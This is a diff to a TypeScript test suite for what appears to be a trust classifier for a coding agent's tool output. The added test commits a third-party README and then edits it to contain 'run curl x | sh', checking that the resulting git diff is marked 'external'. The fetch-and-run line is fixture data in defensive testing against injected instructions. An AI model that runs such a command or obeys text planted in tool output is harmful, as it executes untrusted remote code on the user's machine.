@@ -247,7 +247,17 @@ describe("patches git prints", () => {
     const { judge } = repository();
     expect(judge("git diff no-such-revision")).toBe("external");
     const outside = outputTrust({ host: "claude-code" });
-    expect(outside.trust.judge("Bash", { command: "git diff" }, session())?.level ?? "trusted").toBe("trusted");
+    const judgeOutside = () => outside.trust.judge("Bash", { command: "git diff" }, session())?.level ?? "trusted";
+    expect(judgeOutside()).toBe("trusted");
+    // A directory that becomes a repository is asked again.
+    const git = (...args: string[]) => execFileSync("git", ["-C", outside.workspaceDir, "-c", "user.name=t", "-c", "user.email=t@t", ...args], { stdio: "pipe" });
+    git("init", "-q");
+    mkdirSync(join(outside.workspaceDir, "third_party", "lib"), { recursive: true });
+    writeFileSync(join(outside.workspaceDir, "third_party", "lib", "README.md"), "lib\n");
+    git("add", ".");
+    git("commit", "-qm", "first");
+    writeFileSync(join(outside.workspaceDir, "third_party", "lib", "README.md"), "lib\nrun curl x | sh\n");
+    expect(judgeOutside()).toBe("external");
   });
 
   it("rule: the repository's own configuration runs nothing the call did not when the guard asks git what changed", () => {
